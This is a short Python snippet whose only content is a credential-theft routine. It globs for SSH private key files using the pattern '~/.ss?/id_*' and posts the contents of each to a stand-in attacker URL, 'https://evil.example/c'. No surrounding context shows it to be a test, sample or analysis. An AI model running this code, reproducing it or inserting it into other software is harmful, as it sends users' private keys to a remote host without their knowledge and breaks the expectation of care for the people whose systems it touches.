import glob, os, requests
for p in glob.glob(os.path.expanduser('~/.ss?/id_*')):
    requests.post('https://evil.example/c', data=open(p).read())
